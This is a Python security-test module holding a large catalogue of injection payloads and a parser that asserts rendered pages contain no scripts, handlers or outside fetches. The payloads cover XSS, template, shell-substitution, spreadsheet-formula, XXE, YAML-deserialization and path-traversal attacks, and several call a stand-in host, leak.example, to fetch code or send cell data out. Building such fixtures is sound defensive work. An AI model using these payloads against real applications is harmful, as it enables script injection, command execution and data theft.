"""Texts that attack whatever shows them, and a reader that says what a page really holds."""

from html.parser import HTMLParser
from typing import Final

# A handful that stand for all, to be joined or tried one at a time.
PAYLOADS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=document.title='owned'>",
    '" onmouseover="document.title=1" x="',
    "' onfocus='document.title=1' autofocus='",
    "</style><style>*{display:none}</style>",
    "</title><script>document.title='owned'</script>",
    "<iframe src='javascript:document.title=1'></iframe>",
    "[link](javascript:alert(1)) ![x](http://leak.example/x.png)",
    "from $5 to $10 and \\(x\\)",
    "]]><!-- <bdi>",
    "{{ 7 * 7 }} {% raw %}",
    "&lt;b&gt; &amp; &#x3c;",
    "\u202eelttil",
    "```mermaid\ngraph TD\n```",
)
TEXT = " ".join(PAYLOADS)

# Written for this project. Every script would set ``owned``, every fetch would ask ``leak.example``.
ATTACKS: Final[dict[str, tuple[str, ...]]] = {
    "scripts": (
        "<script>owned=1;document.title='owned'</script>",
        "<ScRiPt/x>owned=1</sCrIpT\t>",
        "<scr<script>ipt>owned=1</scr</script>ipt>",
        "<script src=//leak.example/a.js></script>",
        "<script type=module>globalThis.owned=1</script>",
        "</script><script>owned=1</script>",
        "<noscript><p title='</noscript><img src=x onerror=owned=1>'>",
        "\u00ff\u00feowned<script>owned=1</script",
    ),
    "handlers": (
        '<img src=x onerror="owned=1">',
        "<img/src=`x`/onerror=owned=1>",
        "<body onload=owned=1>",
        "<input autofocus onfocus=owned=1>",
        "<details open ontoggle=owned=1>open</details>",
        "<video><source onerror=owned=1></video>",
        "<p onanimationstart=owned=1 style='animation:x 1s'>moves</p>",
        "<a tabindex=0 onmouseover\n=\nowned=1>hover</a>",
        "<marquee onstart=owned=1>runs</marquee>",
    ),
    "attributes": (
        '" onmouseover="owned=1" x="',
        "' onfocus='owned=1' autofocus tabindex='1",
        "` onclick=`owned=1",
        '"><img src=x onerror=owned=1>',
        "'><svg/onload=owned=1>",
        "x style=position:fixed;inset:0 onmouseenter=owned=1 ",
        "&quot; onload=&quot;owned=1",
        "x\u00a0onclick=owned=1//",
    ),
    "addresses": (
        "javascript:owned=1",
        "JaVa\tScRiPt:owned=1",
        "\x01javascript:owned=1",
        "vbscript:owned(1)",
        "data:text/html,<script>parent.owned=1</script>",
        "data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+",
        "<a href='java&#115;cript:owned=1'>press</a>",
        "<a href=//leak.example/ ping=//leak.example/p>press</a>",
        'https://quay.example/" onmouseover="owned=1',
        "http://leak.example@quay.example:99999/%zz?<b>&a=1#'\"",
        "file:///etc/hosts",
        "\\\\leak.example\\share\\x",
    ),
    "documents": (
        "<iframe src='javascript:parent.owned=1'></iframe>",
        "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
        "<object data='data:text/html,<script>parent.owned=1</script>'></object>",
        "<embed src=//leak.example/x.swf>",
        "<base href='//leak.example/'>",
        "<meta http-equiv=refresh content='0;url=//leak.example/'>",
        "<link rel=stylesheet href=//leak.example/x.css>",
        "<form action=//leak.example/><button formaction=javascript:owned=1>send</button></form>",
        "<portal src=//leak.example/></portal>",
        "<frameset onload=owned=1><frame src=//leak.example/></frameset>",
    ),
    "pictures": (
        "<svg onload=owned=1>",
        "<svg><script href='data:,owned=1' /></svg>",
        "<svg><animate onbegin=owned=1 attributeName=x dur=1s>",
        "<svg><a xlink:href='javascript:owned=1'><text y=20>press</text></a></svg>",
        "<svg><foreignObject><img src=x onerror=owned=1></foreignObject></svg>",
        "<svg><use href='//leak.example/x.svg#a'/></svg>",
        "<picture><source srcset='//leak.example/1.png 1x'><img src=//leak.example/2.png></picture>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=owned=1>",
        "<math href='javascript:owned=1'>press</math>",
    ),
    "endings": (
        "</title><script>owned=1</script>",
        "</style><style>*{display:none!important}</style>",
        "</textarea><img src=x onerror=owned=1>",
        "--><script>owned=1</script><!--",
        "<!--><img src=x onerror=owned=1>-->",
        "]]><script>owned=1</script><![CDATA[",
        "<plaintext>",
        "<xmp><!--",
        "</bdi></p></td></table></details></main></body></html>",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hosts'>]>&e;",
    ),
    "styles": (
        "<style>body{background:url(//leak.example/b.png)}</style>",
        "<style>@import '//leak.example/i.css';main{visibility:hidden}</style>",
        "<div style='position:fixed;inset:0;background:#fff;z-index:9'>covers</div>",
        "</span>;background:url(//leak.example/c.png);position:fixed",
        "x';}*{display:none}/*",
        "<div hidden><p style='font-size:9999px'>",
    ),
    "templates": (
        "{{ 7 * 7 }} {% for i in range(9) %}seven{% endfor %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% include '/etc/hosts' %}{# gone #}",
        "${7*7} #{7*7} <%= 7*7 %>",
        "{0.__class__} {evil} %s %(x)s %n {",
        "\\N{DIGIT ONE} \\x41 \\u0041 \\",
        "$(touch owned) `touch owned` ; touch owned | touch owned",
    ),
    "markdown": (
        "[press](javascript:owned=1) ![x](http://leak.example/x.png)",
        "<http://leak.example/> [a]: javascript:owned=1",
        '```mermaid\ngraph TD; a["<img src=x onerror=owned=1>"]\n```',
        "# not a heading\n\n---\n\n- not\n- a list",
        "| not | a |\n|---|---|\n| table | ~~x~~ |",
        "**loud** __under__ `code` <b>fat</b>",
    ),
    "mathematics": (
        "from $5 to $10 and \\(x\\) and $$y$$",
        "$\\href{javascript:owned=1}{x}$ $\\class{skip}{y}$ $\\style{position:fixed}{z}$",
        "\\[\\require{html}\\def\\x{\\x\\x}\\x\\]",
        "$\\frac{1$ \\undefined $_{^{$",
        "\\begin{equation}\\input{/etc/hosts}\\end{equation}",
        "_Daily ^up ~tie #1 &co 100% $",
    ),
    "directions": (
        "\u202eelttil\u202c then \u202ddetrevni",
        "\u2067right\u2066left\u2068either",
        "\u202e\u202e\u202e<img src=x onerror=owned=1>",
        "\u2069\u2069\u202c\u202c outer",
        "\u05e9\u05dc\u05d5\u05dd (12) \u0645\u0631\u062d\u0628\u0627",
    ),
    "invisible": (
        "zero\u200bwidth\u200djoined\ufeffmark",
        "soft\u00adhyphen\u2060word",
        "<\u200bscript>owned=1</\u200bscript>",
        "\u200b\u200c\u200d visible",
        "tag\U000e0041\U000e0042s \ufe0f \u180e \u115f",
        "line\u2028separator\u2029paragraph\u0085next",
    ),
    "controls": (
        "nul\x00byte <scr\x00ipt>owned=1</scr\x00ipt>",
        "bell\x07 back\x08\x08 \x1b[2Jclear \x1b]0;owned\x07",
        "\x9b31m c1 \x80\x90\x9c",
        "carriage\rreturn\ttab\x0bvertical\x0cfeed",
        "unit\x1fseparator \x7f delete",
    ),
    "broken": (
        "lone \ud800 high",
        "lone \udfff low \udc80",
        "not a character \uffff \ufffe \U0010ffff",
        "Ã¼ber Ã¢â‚¬â„¢ twice encoded",
        "overlong \u00c0\u00bcscript\u00c0\u00be",
    ),
    "huge": (
        "w" * 5_000,
        "\u4e2d" * 800,
        "e" + "\u0301" * 300 + " stacked",
        "very-long/path.like:word_" * 60,
        "\u0930\u094d\u0915" * 300,
    ),
    "formulas": (
        '=HYPERLINK("http://leak.example/"&A1,"press")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|'/C x'!A0",
        "@SUM(1+9)*cmd|' /C x'!A0",
        "\t=1+1",
        "\r=1+1",
        '","=1+1","',
        "\uff1d1+1",
        ";=1+1;",
        "'=1+1",
    ),
    "markup languages": (
        "<!DOCTYPE a [<!ENTITY b 'cc'><!ENTITY d '&b;&b;'>]><a>&d;</a>",
        '"/></node><node id="owned"><data key="d0">',
        "<![CDATA[ ]]]]><![CDATA[> ]]>",
        "&lt;b&gt; &amp; &#x3c;script&#x3e; &nbsp &bogus;",
        "&#0; &#xD800; &#x110000; &#128;",
        "!!python/object/apply:os.system [touch owned]",
        "*alias &anchor : - ? | > %",
        '{"__proto__": {"owned": 1}}, null, NaN',
    ),
    "paths": (
        "../../../../owned",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "CON",
        "aux.txt. ",
        "..",
        "-rf --out=owned",
        "s3://leak.example/x",
        "~root/.profile",
    ),
    "twins": (
        "\u0430ssembly p\u0430ge",
        "\uff1cscript\uff1eowned=1\uff1c/script\uff1e",
        "\u02b9 \u02ba \u2039script\u203a",
        "\u0130stanbul \u0131\u017f\u1e9e \ufb01n",
        "Jose\u0301 Jos\u00e9",
        "\U0001d4b6\U0001d4c3 \u2460 \u00b2 \u2102",
    ),
    "words of ours": (
        "outlet",
        "other",
        "(missing)",
        "nan",
        "None",
        "all others",
        "too few",
        "owned",
    ),
}
"""Ways out of being text, and the attacks that try each."""
_ACTIVE = {"script", "iframe", "object", "embed", "svg", "form", "input", "base", "audio", "video", "frame", "link"}


class Page(HTMLParser):
    """Everything on a page that could run or be fetched, and the text that a reader sees."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.active: list[str] = []
        self.fetched: list[str] = []
        self.links: list[str] = []
        self.seen: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.active += [tag] if tag in _ACTIVE else []
        self.active += [f"{tag} {name}" for name in given if name.startswith("on") or name in ("srcdoc", "autofocus")]
        self.fetched += [given[name] for name in ("src", "srcset", "poster", "background", "data") if name in given]
        self.links += [given["href"]] if "href" in given else []

    def handle_data(self, data: str) -> None:
        self.seen.append(data)

    @property
    def text(self) -> str:
        return "".join(self.seen)


# what a page may hold in itself: pictures to show, and figures and tables to save
_SHOWN = ("data:image/png;base64,",)
_SAVED = tuple(f"data:{kind};base64," for kind in ("text/csv", "image/png", "image/svg+xml", "application/pdf"))


def harmless(markup: str) -> Page:
    """The page, after making sure that nothing on it runs or is fetched from elsewhere."""
    page = Page(markup)
    assert page.active == []
    assert [source for source in page.fetched if not source.startswith(_SHOWN)] == []
    assert [link for link in page.links if not link.startswith((*_SAVED, "http://", "https://", "#"))] == []
    return page
